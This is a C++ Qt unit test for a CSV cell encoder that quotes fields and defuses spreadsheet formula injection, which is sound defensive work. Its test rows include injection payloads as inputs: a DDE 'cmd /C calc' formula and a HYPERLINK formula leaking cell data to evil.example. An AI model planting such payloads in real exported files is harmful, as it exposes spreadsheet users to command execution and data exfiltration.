// A cell of the CSV the program writes: quoted as RFC 4180 wants, and never a live formula when a
// spreadsheet opens the file, while plain numbers stay numbers.

#include "base/CsvField.h"
#include "support/TestHome.h"

using namespace Qt::StringLiterals;

class TestCsvField : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void cells_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("cell");
        QTest::newRow("plain") << u"Not Available"_s << u"Not Available"_s;
        QTest::newRow("empty") << QString() << QString();
        QTest::newRow("comma") << u"1,234"_s << u"\"1,234\""_s;
        QTest::newRow("quote") << u"a \"b\""_s << u"\"a \"\"b\"\"\""_s;
        QTest::newRow("line break") << u"a\nb"_s << u"\"a\nb\""_s;
        QTest::newRow("equals") << u"=1+1"_s << u"'=1+1"_s;
        QTest::newRow("plus") << u"+cmd|' /C calc'!A0"_s << u"'+cmd|' /C calc'!A0"_s;
        QTest::newRow("minus") << u"-2+3"_s << u"'-2+3"_s;
        QTest::newRow("at") << u"@SUM(A1:A9)"_s << u"'@SUM(A1:A9)"_s;
        QTest::newRow("tab") << u"\t=1"_s << u"'\t=1"_s;
        QTest::newRow("carriage return") << u"\r=1"_s << u"\"'\r=1\""_s;
        QTest::newRow("formula to quote") << u"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"_s
                                          << u"\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\""_s;
        QTest::newRow("a sign alone") << u"-"_s << u"'-"_s;
        QTest::newRow("negative number") << u"-1"_s << u"-1"_s;
        QTest::newRow("signed fraction") << u"+3.25"_s << u"+3.25"_s;
        QTest::newRow("number then formula") << u"-1+cmd"_s << u"'-1+cmd"_s;
        QTest::newRow("equals later") << u"a=1"_s << u"a=1"_s;
    }
    void cells()
    {
        QFETCH(QString, text);
        QFETCH(QString, cell);
        QCOMPARE(CsvField(text), cell);
    }
};

QUORVEX_TEST_MAIN_CORE(TestCsvField)
#include "test_csv_field.moc"
